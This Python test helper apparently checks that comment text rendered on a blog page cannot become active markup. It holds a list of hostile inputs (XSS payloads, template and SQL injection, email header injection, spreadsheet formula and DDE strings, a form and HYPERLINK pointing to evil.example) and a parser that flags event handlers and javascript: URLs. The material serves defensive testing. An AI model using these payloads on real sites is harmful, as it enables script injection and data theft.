"""Strings that try to be more than words, and what they could become in a page."""

import json
import re
from collections import Counter
from html.parser import HTMLParser
from typing import Any

HOSTILE = [
    "<script>alert(1)</script>",
    "</textarea></title></style></script><svg onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)' x='",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    (
        "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=javascript:alert(1)><embed src=//e.io>"
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
    ),
    (
        "<base href=//evil.example/><form action=//evil.example><input name=text><button>Yes</button></form>"
        "<style>*{display:none}</style><meta http-equiv=refresh content=0>"
    ),
    '<a href="java\nscript:alert(1)">x</a><a href="&#106;avascript:alert(1)">y</a> <javascript:alert(1)>',
    "javascript:alert(1)",
    "[x](javascript:alert(1)) ![x](data:text/html,x) [y](JaVaScRiPt&colon;alert(1))\n[a]: javascript:alert(1) 'b'",
    '[<svg onload=alert(1)>](https://evil.example/"onmouseover="alert(1)) **<img src=x onerror=alert(1)>**',
    "http://javascript:alert(1)@evil.example/ http://[::1 HTTPS://X.example/?a=1&b=2#<b> <https://x.example/?<svg/>>",
    "&lt;script&gt;alert(1)&lt;/script&gt; %3Cscript%3E\u2028\u2029\u202e\u2066\u200balert(1)",
    "{{ settings.SECRET_KEY }}{% include '403.html' %}{% csrf_token %}${7*7}'; DROP TABLE blog_comment; --",
    '</script><!--<script>{"@type": "x"}]]></description><item>&xxe;',
    "Bcc: everybody\r\nContent-Type: text/html\r\n\r\n<b onmouseover=alert(1)>x",
    '=HYPERLINK("http://evil.example";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
# What the small formatting of comments, the desk's marks and line breaks may write: (tag, names of attributes).
_FORMATTING = {("p",), ("br",), ("em",), ("strong",), ("ul",), ("ol",), ("ol", "start"), ("li",), ("a", "href", "rel")}
_MARKS = {("mark",), ("mark", "class", "title"), ("span", "class")}
_LEADING = {"href", "src", "action", "formaction", "data", "data-src", "srcset", "poster", "xlink:href", "content"}
_ACTIVE = re.compile(r"(javascript|data|vbscript):", re.IGNORECASE)


class Skeleton(HTMLParser):
    """Every element of a page with the names of its attributes, but for what formatting may write; no words.

    `acting`: what could act whoever wrote it. `scripts`: the type and the text of each script that stands in the page.
    """

    def __init__(self) -> None:
        super().__init__()
        self.seen: Counter[Any] = Counter()
        self.acting: list[str] = []
        self.scripts: list[tuple[str, str]] = []
        self._script: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Count it."""
        shape = (tag, *sorted(name for name, _ in attrs))
        if not (shape in _MARKS or (shape in _FORMATTING and _is_plain(dict(attrs)))):
            self.seen[shape] += 1
        for name, value in attrs:
            leads = name in _LEADING and _ACTIVE.match(re.sub(r"[\x00-\x20]", "", value or ""))
            if name.startswith("on") or name == "srcdoc" or leads:
                self.acting.append(f"<{tag} {name}={value!r}>")
        if tag == "script":
            self._script = dict(attrs).get("type") or ""

    def handle_endtag(self, tag: str) -> None:
        """A script ends."""
        if tag == "script":
            self._script = None

    def handle_data(self, data: str) -> None:
        """Keep what stands in scripts."""
        if self._script is not None:
            self.scripts.append((self._script, data))


def _is_plain(attrs: dict[str, str | None]) -> bool:
    """Whether a link is one that the formatting makes; what has no address is plain."""
    if "href" not in attrs:
        return True
    is_web = re.match(r"https?://[^/]", attrs["href"] or "", re.IGNORECASE)
    return bool(is_web) and attrs.get("rel") == "ugc nofollow noopener"


def skeleton(html: str, words: str = "") -> Counter[Any]:
    """The elements of a page in which `words` are shown. AssertionError if anything in it acts, or is broken JSON."""
    parser = Skeleton()
    parser.feed(html)
    parser.close()
    assert parser.acting == []
    for kind, text in parser.scripts:
        if kind.endswith("json"):
            json.loads(text)
        else:
            assert not words or words not in text, "the words stand in a script"
    return parser.seen
